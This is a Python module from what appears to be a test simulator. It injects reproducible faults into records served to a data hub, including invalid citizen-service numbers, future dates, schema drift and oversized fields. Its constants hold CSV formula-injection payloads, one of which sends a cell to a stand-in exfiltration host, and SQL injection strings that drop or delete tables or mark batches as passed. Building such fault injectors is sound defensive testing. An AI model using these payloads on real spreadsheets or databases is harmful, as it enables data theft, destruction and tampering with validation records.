"""Data faults: deterministic alterations of served records, reporting the keys touched.

The world itself is never altered: a tampered record is a deep copy that replaces the
original in what one endpoint serves. Which field each fault touches, per dataset, is
listed below and in API.md.
"""

from __future__ import annotations

import copy
import random
from datetime import date, timedelta
from typing import Any

from ketenbrug.simulators.bsn import invalidated_bsn
from ketenbrug.simulators.faults import Fault

Record = dict[str, Any]
Path = tuple[str, ...]

RECORD_KEYS: dict[str, Path] = {
    "probation.clients": ("client_id",), "probation.orders": ("order_id",),
    "dji.detentions": ("registration_number",), "wijkteam.involvements": ("involvement_id",),
    "care.episodes": ("id",), "municipal_orders.agreements": ("agreement_id",),
    "municipal_orders.bookings": ("booking_id",),
}
BSN_FIELDS: dict[str, Path] = {
    "probation.clients": ("bsn",), "dji.detentions": ("bsn",),
    "wijkteam.involvements": ("bsn",), "care.episodes": ("patient", "identifier", "value"),
}
# A date that can never lie in the future (or the change stamp where there is none).
FUTURE_FIELDS: dict[str, Path] = {
    "probation.clients": ("birth_date",), "probation.orders": ("updated_at",),
    "dji.detentions": ("admission_date",), "wijkteam.involvements": ("involved_since",),
    "care.episodes": ("meta", "lastUpdated"), "municipal_orders.agreements": ("updated_at",),
    "municipal_orders.bookings": ("booking_date",),
}
# A text field the hub takes: payloads there reach its tables and, for names, its CSVs.
TEXT_FIELDS: dict[str, Path] = {
    "probation.clients": ("surname",), "probation.orders": ("status",),
    "dji.detentions": ("surname",), "wijkteam.involvements": ("surname",),
    "care.episodes": ("managingOrganization", "display"),
    "municipal_orders.agreements": ("description",), "municipal_orders.bookings": ("activity",),
}
# The permitted field that schema drift renames, drops or retypes, and its new name.
DRIFT_FIELDS: dict[str, tuple[str, str]] = {
    "probation.clients": ("risc_level", "risk_level"),
    "probation.orders": ("end_date", "einddatum"),
    "dji.detentions": ("expected_release_date", "expected_release"),
    "wijkteam.involvements": ("involved_since", "since"),
    "care.episodes": ("status", "episodeStatus"),
    "municipal_orders.agreements": ("cap_hours", "cap"),
    "municipal_orders.bookings": ("hours", "duration"),
}
EXTRA_FIELD = "phone_number"  # drift_extra: a field nobody asked for, and personal at that
CSV_FORMULAS = (
    '=HYPERLINK("http://exfil.example/?d="&A1,"Open")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
)
SQL_INJECTIONS = (
    "Robert'); DROP TABLE landing._batches;--", "' OR '1'='1", "x'; DELETE FROM vault; --",
    '"; UPDATE landing._batches SET status = \'passed\'; --',
)
OVERSIZED_CHARS = 1_000_000


def tamper(
    name: str, records: list[Record], faults: tuple[Fault, ...], today: date, seed: int
) -> tuple[list[Record], dict[str, list[str]]]:
    """Return (records as served, keys touched per fault kind) for dataset `name`
    ("<slug>.<dataset>") under `faults`.

    Each fault picks its records at random but reproducibly (from `seed`, `name` and the
    fault), never one another fault already took; a fault asking for more records than
    are left takes what is left. Duplicates follow their original.
    """
    served = list(records)
    touched: dict[str, list[str]] = {}
    taken: set[int] = set()
    duplicated: list[int] = []
    for fault in faults:
        rng = random.Random(f"{seed}:{name}:{fault}")
        free = [i for i, record in enumerate(served)
                if i not in taken and _applies(name, fault, record)]
        chosen = free if fault.count is None else rng.sample(free, min(fault.count, len(free)))
        chosen.sort()
        taken.update(chosen)
        for i in chosen:
            if fault.kind == "duplicate":
                duplicated.append(i)
            else:
                served[i] = _alter(name, fault.kind, copy.deepcopy(served[i]), rng, today)
        keys = [str(_get(records[i], RECORD_KEYS[name])) for i in chosen]
        touched.setdefault(fault.kind, []).extend(keys)
    for i in sorted(duplicated, reverse=True):
        served.insert(i + 1, copy.deepcopy(served[i]))
    return served, {kind: sorted(keys) for kind, keys in touched.items()}


def _applies(name: str, fault: Fault, record: Record) -> bool:
    if fault.kind == "drift_type":
        return record.get(DRIFT_FIELDS[name][0]) is not None
    return True


def _alter(name: str, kind: str, record: Record, rng: random.Random, today: date) -> Record:
    if kind == "invalid_bsn":
        path = BSN_FIELDS[name]
        _set(record, path, invalidated_bsn(_get(record, path)))
    elif kind == "future_date":
        path = FUTURE_FIELDS[name]
        day = (today + timedelta(days=30 + int(rng.random() * 3000))).isoformat()
        _set(record, path, f"{day}T12:00:00Z" if "T" in str(_get(record, path)) else day)
    elif kind in ("csv_formula", "sql_injection", "oversized"):
        path = TEXT_FIELDS[name]
        if kind == "oversized":
            value = f"{_get(record, path)} {'x' * OVERSIZED_CHARS}"
        else:
            value = rng.choice(CSV_FORMULAS if kind == "csv_formula" else SQL_INJECTIONS)
        _set(record, path, value)
    elif kind == "drift_extra":
        record[EXTRA_FIELD] = f"06{int(rng.random() * 100_000_000):08d}"
    else:
        field, renamed = DRIFT_FIELDS[name]
        value = record.pop(field)
        if kind == "drift_renamed":
            record[renamed] = value
        elif kind == "drift_type":
            record[field] = _wrong_type(value)
    return record


def _wrong_type(value: Any) -> Any:
    """Return `value` as another JSON type: a date as the number 20261129, a decimal
    string as a number, other text as a one-element list, a number as text."""
    if isinstance(value, str):
        if len(value) == 10 and value[4] == value[7] == "-":
            return int(value.replace("-", ""))
        try:
            return float(value)
        except ValueError:
            return [value]
    return str(value)


def _get(record: Record, path: Path) -> Any:
    node: Any = record
    for part in path:
        node = node[part]
    return node


def _set(record: Record, path: Path, value: Any) -> None:
    node = record
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
